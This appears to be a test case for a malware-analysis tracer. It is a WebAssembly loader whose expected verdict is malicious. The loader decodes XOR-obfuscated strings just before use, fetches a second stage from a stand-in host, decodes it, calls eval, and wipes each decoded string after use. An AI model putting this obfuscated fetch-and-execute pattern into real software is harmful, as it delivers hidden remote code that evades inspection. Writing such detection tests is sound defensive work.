;; RUN: spoor trace % --invoke run --json
;; WHAT: Packed loader: no string of interest stands in the file; each is decoded with its own key just before
;;   it is given to the host.
;; EXPECT: verdict=MALICIOUS|SUSPICIOUS family=loader rule=anti-analysis/obfuscation status=exited host_text="https://stage.example.invalid/second.bin?k=2f9c" host_text="192.0.2.77:8443" host=env.fetch:1 host=env.eval:1
(module
  (import "env" "fetch" (func $fetch (param i32 i32 i32 i32) (result i32)))
  (import "env" "eval" (func $eval (param i32 i32) (result i32)))
  (import "env" "log" (func $log (param i32 i32)))
  (memory (export "memory") 1)
  ;; A string is {key u8, step u8, length u16, bytes}; it is decoded to 1024 and its length given back.
  (func $unpack (param $at i32) (result i32) (local $key i32) (local $step i32) (local $n i32) (local $i i32)
    (local.set $key (i32.load8_u (local.get $at)))
    (local.set $step (i32.load8_u offset=1 (local.get $at)))
    (local.set $n (i32.load16_u offset=2 (local.get $at)))
    (loop $byte
      (i32.store8 offset=1024 (local.get $i)
        (i32.xor (i32.load8_u offset=4 (i32.add (local.get $at) (local.get $i))) (local.get $key)))
      (local.set $key (i32.and (i32.add (local.get $key) (local.get $step)) (i32.const 255)))
      (br_if $byte (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (local.get $n))))
    (local.get $n))
  ;; What was decoded is wiped as soon as it was used.
  (func $forget (param $n i32)
    (memory.fill (i32.const 1024) (i32.const 0) (local.get $n)))
  (func $say (param $at i32) (local $n i32)
    (call $log (i32.const 1024) (local.tee $n (call $unpack (local.get $at))))
    (call $forget (local.get $n)))
  ;; The second stage is packed once more: a byte is the difference to the one before.
  (func $inflate (param $p i32) (param $n i32) (local $last i32)
    (block $done
      (loop $byte
        (br_if $done (i32.le_s (local.get $n) (i32.const 0)))
        (local.set $last (i32.and (i32.add (local.get $last) (i32.load8_u (local.get $p))) (i32.const 255)))
        (i32.store8 (local.get $p) (local.get $last))
        (local.set $p (i32.add (local.get $p) (i32.const 1)))
        (local.set $n (i32.sub (local.get $n) (i32.const 1)))
        (br $byte))))
  (func (export "run") (result i32) (local $n i32) (local $got i32)
    (call $say (i32.const 64))
    (local.set $n (call $unpack (i32.const 86)))
    (local.set $got (call $fetch (i32.const 1024) (local.get $n) (i32.const 4096) (i32.const 8192)))
    (call $forget (local.get $n))
    (call $inflate (i32.const 4096) (local.get $got))
    (local.set $n (call $unpack (i32.const 137)))
    (drop (call $eval (i32.const 1024) (local.get $n)))
    (call $forget (local.get $n))
    (call $say (i32.const 191))
    (local.get $got))
  (data (i32.const 64)
    "\91\07\12\00\e2\ec\fe\c1\c8\94\d4\ac\ac\f0\be\ad\c5\8d\84\9b\6a\6d\3e\1d\2f\00\56\2f\0c\e5\c1\f5"
    "\c3\26\55\37\01\1a\ff\99\b1\89\6f\46\38\09\e7\b1\d5\b7\80\72\5c\24\0e\a8\d7\a4\bd\94\76\51\7c\0d"
    "\e5\c7\f9\88\3d\2f\5c\6e\17\c5\53\32\00\ab\7d\1c\9e\57\11\d9\69\29\d9\6c\38\81\db\3d\c7\81\3d\e9"
    "\80\61\e0\8f\53\fe\c7\1a\ae\f0\02\0f\bd\56\0c\86\7b\02\b7\76\0d\d8\38\44\c4\6c\3d\cb\7b\72\81\77"
    "\0b\24\00\13\ed\e3\fd\98\8e\d7\a1\b7\ae\c5\82\9e\76\7e\6e\53\12\49\27\73\6f\50\46\51\ba\bb\92\85"
    "\81\f6\f6\ef\d6\d9\cb")
)
